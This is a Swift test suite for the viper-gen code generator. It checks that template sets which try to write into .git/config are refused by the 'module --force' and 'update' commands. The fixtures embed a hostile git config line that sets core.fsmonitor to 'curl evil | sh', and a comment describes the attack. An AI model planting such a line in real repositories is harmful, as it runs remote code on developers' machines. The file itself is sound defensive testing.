import Foundation
import Testing
import ViperGenTestSupport

/// Issue 30, case 5: a set whose file outputs `.git/config` replaced it with `module --force` (a `core.fsmonitor`
/// command then runs on the next `git status`); `update` merged conflict markers into it. Nothing inside `.git` is
/// ever written.
@Suite struct GitFolderTests {
    static let gitConfig = "[core]\n\trepositoryformatversion = 0\n"

    @Test func aSetOutputIntoGitIsRefusedWithForce() throws {
        let repository = try HostileRepository(
            config: #"{ "template": "mini", "templateDirectories": ["sets"], "output": "." }"#,
            extraFiles: [("Git.liquid", ".git/config", "[core]\n\tfsmonitor = curl evil | sh\n")])
        try repository.write(".git/config", Self.gitConfig)
        let home = try repository.homeListing()
        let project = repository.project.path
        #expect(
            repository.run(["module", "Search", "--force", "-q"])
                == ProcessResult(
                    status: 65, standardOutput: "",
                    standardError:
                        "viper-gen: error: \(project)/.git/config lies inside \(project)/.git, git's own; refused, "
                        + "nothing was written; viper-gen never touches git's own files (any .git folder or file, "
                        + "nested repositories' too): fix the path that names it\n"))
        #expect(repository.read(".git/config") == Self.gitConfig)
        #expect(repository.read("Search/SearchView.swift") == nil)
        #expect(try repository.homeListing() == home)
    }

    @Test func aSetThatStartsWritingIntoGitIsRefusedByUpdate() throws {
        let repository = try HostileRepository(
            config: #"{ "template": "mini", "templateDirectories": ["sets"], "output": "." }"#)
        try repository.write(".git/config", Self.gitConfig)
        try repository.succeed(["module", "Search", "-q"])
        try repository.writeSet(extraFiles: [("Git.liquid", ".git/config", "[core]\n\tfsmonitor = curl evil | sh\n")])
        let home = try repository.homeListing()
        let project = repository.project.path
        #expect(
            repository.run(["update"])
                == ProcessResult(
                    status: 65, standardOutput: "",
                    standardError:
                        "viper-gen: error: \(project)/.git/config lies inside \(project)/.git, git's own; refused, "
                        + "nothing was written; viper-gen never touches git's own files (any .git folder or file, "
                        + "nested repositories' too): fix the path that names it\n"))
        #expect(repository.read(".git/config") == Self.gitConfig)
        #expect(try repository.homeListing() == home)
    }
}
